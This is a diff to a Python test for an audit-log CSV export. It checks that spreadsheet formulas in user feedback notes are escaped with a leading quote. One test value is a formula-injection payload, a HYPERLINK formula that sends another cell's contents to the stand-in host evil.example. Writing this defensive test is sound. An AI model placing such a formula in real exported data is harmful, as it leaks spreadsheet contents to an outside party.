@@ -31,8 +31,9 @@ def test_audit_report_and_export(tmp_path: Path, capsys: pytest.CaptureFixture[s
         for r in recs[:100] if writer_id == "proc-a" else recs[100:]:
             w.submit(r)
         w.stop()
-    for r in recs[:30]:
-        add_feedback(engine, r["request_id"], r["predicted_label"] if r["confidence"] > 0.6 else 0, None, None, lambda _: None)
+    notes = {0: '=HYPERLINK("http://evil.example/?"&B2,"click")', 1: "-2+3", 2: "looks like a 7"}  # anyone with a request id may post one
+    for i, r in enumerate(recs[:30]):
+        add_feedback(engine, r["request_id"], r["predicted_label"] if r["confidence"] > 0.6 else 0, notes.get(i), None, lambda _: None)
 
     assert vigil(["audit", "verify", "--url", url]) == 0
     assert "OK: 200 rows in 2 chain(s)" in capsys.readouterr().out
@@ -49,6 +50,10 @@ def test_audit_report_and_export(tmp_path: Path, capsys: pytest.CaptureFixture[s
     assert len(rows) == 200 and "input_pixels" not in rows[0]
     assert sum(r["true_label"] != "" for r in rows) == 30 and len(json.loads(rows[0]["probabilities"])) == 10
     assert {r["ood_flagged"] for r in rows} == {"true", "false"}  # JSON, as the API writes booleans
+    # A note a spreadsheet would run as a formula is quoted; plain text and numbers stay as they are.
+    by_id = {r["request_id"]: r for r in rows}
+    assert [by_id[recs[i]["request_id"]]["feedback_note"] for i in range(3)] == ["'" + notes[0], "'-2+3", "looks like a 7"]
+    assert float(by_id[recs[0]["request_id"]]["confidence"]) == pytest.approx(recs[0]["confidence"])
     assert vigil(["export", "--url", url, "--format", "parquet", "--out", str(tmp_path / "log.parquet")]) == 0
     table = pq.read_table(tmp_path / "log.parquet")
     assert table.num_rows == 200 and table.column("input_pixels")[0].as_py() == b"\x93NUMPY"
